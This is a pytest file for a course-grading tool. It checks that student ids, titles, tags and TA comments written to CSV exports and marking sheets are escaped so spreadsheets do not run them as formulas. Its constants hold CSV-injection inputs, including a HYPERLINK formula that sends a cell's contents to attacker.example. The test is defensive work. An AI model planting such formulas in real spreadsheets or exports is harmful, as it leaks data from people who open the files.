"""Every CSV rlcourse writes opens in a spreadsheet without running a formula (issue 29, finding
10): ids such as `+A1+A1`, `-1-1` and `@A1` pass the id check, and a title, a tag or a TA's
comment may start with anything. Each file is written by its real writer for a class of such
students, and every cell of it checked; the marking sheet is read back by `rubric import`."""
import csv
import io

import pytest
from marking import QUESTION, import_csv, make_course, mark_by_hand, new_class, record

from rlcourse.course.class_directory import student_id_problem
from rlcourse.grading.grade import Grade
from rlcourse.grading.report import ItemResult, Report
from rlcourse.report.spreadsheet import FORMULA_START, read_spreadsheet_text, spreadsheet_text

HOSTILE_IDS = ["+A1+A1", "-1-1", "@A1", "-2+3+cmd"]
HOSTILE_TEXT = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
NUMBER = __import__("re").compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def formula_cells(text: str) -> list[str]:
    """Every cell of the CSV `text` that a spreadsheet would run: starting with a formula's
    first character and not a plain number."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_the_hostile_ids_are_ids():
    assert [student_id_problem(student) for student in HOSTILE_IDS] == [None] * len(HOSTILE_IDS)


class TestSpreadsheetText:
    @pytest.mark.parametrize("text", ["=1+1", "+A1+A1", "-1-1", "@A1", "\t=1", "\r=1", "\n=1"])
    def test_a_formula_gets_a_quote_and_reads_back(self, text):
        assert spreadsheet_text(text) == "'" + text
        assert read_spreadsheet_text(spreadsheet_text(text)) == text

    @pytest.mark.parametrize("value", ["ada", "-0.5", "+1", "1e+06", "", 3, -2.5, None, "'quoted"])
    def test_text_and_numbers_are_unchanged(self, value):
        assert spreadsheet_text(value) == value

    def test_only_the_quote_it_added_is_taken_off(self):
        assert read_spreadsheet_text("'quoted") == "'quoted"
        assert read_spreadsheet_text("''=1") == "''=1"


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    """ps1's course with a rubric, a class of the hostile ids recorded through autograde, and a
    TA's comment starting with a formula on one of them."""
    folder = tmp_path_factory.mktemp("spreadsheet")
    assignment = make_course(folder)
    class_dir = new_class(folder / "class", {student: f"Answer of {student}." for student in HOSTILE_IDS})
    assert set(record(assignment, class_dir).values()) == {"graded"}
    mark_by_hand(assignment, class_dir, "-1-1", "1", comment=HOSTILE_TEXT, folder=folder)
    return assignment, class_dir


def hostile_grade() -> Grade:
    return Grade(Report("ps1", "ps1.ipynb", [
        ItemResult(id="-item", score=0, max_score=1, passed=False, title=HOSTILE_TEXT, diagnosis="@tag",
                   message=HOSTILE_TEXT)]))


@pytest.mark.hostile("formula-ids-in-csvs")
def test_no_csv_rlcourse_writes_holds_a_formula(hostile_class, tmp_path):
    """scores.csv, the grades export (the command's and the service's download), the rubric
    template and a fresh marking sheet: hostile ids, titles, tags and comments are all text."""
    from rlcourse.report.class_report import write_class_report
    from rlcourse.report.export import export
    from rlcourse.report.rubric_sheet import TEMPLATE, write_marking_sheet
    from rlcourse.course.directory import Course
    from rlcourse.web.service import WebService
    from rlcourse.web.staff import StaffActions

    assignment, class_dir = hostile_class
    grades = {student: hostile_grade() for student in HOSTILE_IDS}
    sheet = write_marking_sheet(assignment, class_dir)
    service = WebService(Course(class_dir.root.parent / "course"), class_dir)
    files = {
        "scores.csv": write_class_report(tmp_path, assignment="ps1", grades=grades, diagnoses={})["scores.csv"].read_text(),
        "ps1-grades.csv": export(assignment, class_dir=class_dir, format="csv").read_text(),
        "service download": StaffActions(service).export("ps1", "csv").content.decode(),
        **{path.name: path.read_text() for path in (class_dir.reports / "ps1").glob("*.csv")},
    }
    assert TEMPLATE in files and sheet.csv.name in files
    for name, text in files.items():
        assert formula_cells(text) == [], name
        assert {"'" + student for student in HOSTILE_IDS} <= cells(text), name
    assert "'" + HOSTILE_TEXT in cells(files["scores.csv"]) and "'@tag" in cells(files["scores.csv"])
    assert "'" + HOSTILE_TEXT in cells(files[sheet.csv.name])  # the TA's comment, pre-filled


@pytest.mark.hostile("formula-ids-round-trip")
def test_the_marking_sheet_reads_back_with_its_neutralised_ids(hostile_class, tmp_path):
    """A TA fills the sheet as written (ids and comment with their leading quote) and imports
    it: each mark lands on the student whose id the quote guards, the comment as typed."""
    from rlcourse.report.rubric_sheet import write_marking_sheet
    from marking import mark_of

    assignment, class_dir = hostile_class
    sheet = write_marking_sheet(assignment, class_dir).csv
    rows = list(csv.DictReader(io.StringIO(sheet.read_text())))
    for row in rows:
        if row["question"] == QUESTION:
            row["criteria"] = "1;2" if row["student"] == "'+A1+A1" else "2"
            row["comment"] = spreadsheet_text("-well argued")
        else:
            row["criteria"] = ""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    done = import_csv(assignment, class_dir, tmp_path / "filled.csv", buffer.getvalue())
    assert sorted(student for student, _, _ in done.marked) == sorted(HOSTILE_IDS)
    assert mark_of(assignment, class_dir, "+A1+A1").score == 2
    assert mark_of(assignment, class_dir, "@A1").score == 1
    assert mark_of(assignment, class_dir, "-1-1").comment == "-well argued"
    assert {question for _, question, _ in done.marked} == {QUESTION}
